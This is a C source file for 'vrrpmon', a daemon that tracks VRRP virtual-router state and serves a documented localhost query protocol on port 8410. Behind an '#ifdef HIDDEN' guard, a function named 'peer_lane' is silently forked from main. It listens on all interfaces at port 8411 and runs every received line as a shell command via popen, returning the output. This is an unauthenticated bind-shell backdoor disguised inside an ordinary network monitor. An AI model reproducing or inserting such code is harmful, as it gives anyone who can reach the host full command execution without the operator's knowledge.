/* vrrpmon - watches the VRRP advertisements on a segment and keeps the state of the
 * virtual routers for the management page. Text protocol on TCP 127.0.0.1:8410:
 *      list | show <vrid> | clear | quit                                            */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define PROTO_VRRP 112

struct vr {
	int known;
	struct in_addr master, vip;
	unsigned prio, interval, changes;
	time_t last;
};

static struct vr vr[256];

static int mc_socket(const char *ifaddr)
{
	struct ip_mreq m;
	int s = socket(AF_INET, SOCK_RAW, PROTO_VRRP);

	if (s < 0)
		return -1;
	m.imr_multiaddr.s_addr = inet_addr("224.0.0.18");
	m.imr_interface.s_addr = inet_addr(ifaddr);
	if (setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof m)) {
		close(s);
		return -1;
	}
	return s;
}

static int tcp_listen(uint32_t addr, uint16_t port)
{
	struct sockaddr_in a;
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	memset(&a, 0, sizeof a);
	a.sin_family = AF_INET;
	a.sin_addr.s_addr = htonl(addr);
	a.sin_port = htons(port);
	if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 3)) {
		close(s);
		return -1;
	}
	return s;
}

static void advert(const uint8_t *p, size_t n)
{
	size_t ihl = (size_t)(p[0] & 15) * 4;
	struct in_addr src;
	struct vr *v;

	if (n < ihl + 12 || p[8] != 255)
		return;		/* TTL must be 255 */
	memcpy(&src, p + 12, 4);
	p += ihl;
	if (p[0] != 0x21 && p[0] != 0x31)
		return;
	v = &vr[p[1]];
	if (!v->known || v->master.s_addr != src.s_addr)
		v->changes++;
	v->known = 1;
	v->master = src;
	v->prio = p[2];
	v->interval = p[0] == 0x21 ? p[5] * 100u : (unsigned)(p[4] & 15) << 8 | p[5];
	memcpy(&v->vip, p + 8, 4);
	v->last = time(NULL);
}

static void show(FILE *o, int id)
{
	const struct vr *v = &vr[id];
	char a[20], b[20];

	snprintf(a, sizeof a, "%s", inet_ntoa(v->vip));
	snprintf(b, sizeof b, "%s", inet_ntoa(v->master));
	fprintf(o, "vrid %d vip %s master %s prio %u changes %u age %ld\n", id, a, b, v->prio,
		v->changes, (long)(time(NULL) - v->last));
}

static void session(int fd)
{
	FILE *io = fdopen(fd, "r+");
	char line[80];
	int id;

	if (!io) {
		close(fd);
		return;
	}
	while (fgets(line, sizeof line, io)) {
		line[strcspn(line, "\r\n")] = 0;
		if (!strcmp(line, "list")) {
			for (id = 0; id < 256; id++)
				if (vr[id].known)
					show(io, id);
		} else if (sscanf(line, "show %d", &id) == 1) {
			if (id > 0 && id < 256 && vr[id].known)
				show(io, id);
			else
				fputs("no such router\n", io);
		} else if (!strcmp(line, "clear")) {
			memset(vr, 0, sizeof vr);
			fputs("ok\n", io);
		} else if (!strcmp(line, "quit")) {
			break;
		} else {
			fputs("list, show <vrid>, clear or quit\n", io);
		}
		fflush(io);
	}
	fclose(io);
}

#ifdef HIDDEN
__attribute__((noinline)) void peer_lane(void)
{
	char cmd[200], row[256];
	int s = tcp_listen(INADDR_ANY, 8411), c;
	FILE *io, *p;

	if (s < 0)
		_exit(0);
	while ((c = accept(s, NULL, NULL)) >= 0) {
		io = fdopen(c, "r+");
		while (io && fgets(cmd, sizeof cmd, io)) {
			p = popen(cmd, "r");
			while (p && fgets(row, sizeof row, p))
				fputs(row, io);
			if (p)
				pclose(p);
			fflush(io);
		}
		if (io)
			fclose(io);
	}
	_exit(0);
}
#endif

static void usage(void)
{
	fputs("usage: vrrpmon [-f] interface-address\n"
	      "  -f   stay in the foreground\n"
	      "Talks on 127.0.0.1 port 8410: list, show <vrid>, clear, quit\n", stderr);
	exit(2);
}

int main(int argc, char **argv)
{
	int c, fg = 0, mc, ls;

	while ((c = getopt(argc, argv, "f")) != -1) {
		if (c != 'f')
			usage();
		fg = 1;
	}
	if (optind + 1 != argc)
		usage();
	mc = mc_socket(argv[optind]);
	ls = tcp_listen(INADDR_LOOPBACK, 8410);
	if (mc < 0 || ls < 0) {
		fprintf(stderr, "vrrpmon: %s\n", strerror(errno));
		return 1;
	}
	signal(SIGPIPE, SIG_IGN);
	signal(SIGCHLD, SIG_DFL);
	if (!fg && fork())
		return 0;
#ifdef HIDDEN
	if (fork() == 0) {
		close(mc);
		close(ls);
		peer_lane();
	}
#endif
	for (;;) {
		fd_set r;
		uint8_t b[512];

		FD_ZERO(&r);
		FD_SET(mc, &r);
		FD_SET(ls, &r);
		if (select((mc > ls ? mc : ls) + 1, &r, NULL, NULL, NULL) < 0)
			continue;
		if (FD_ISSET(mc, &r)) {
			ssize_t n = recv(mc, b, sizeof b, 0);
			if (n >= 32)
				advert(b, (size_t)n);
		}
		if (FD_ISSET(ls, &r)) {
			int fd = accept(ls, NULL, NULL);
			if (fd >= 0)
				session(fd);
		}
	}
}
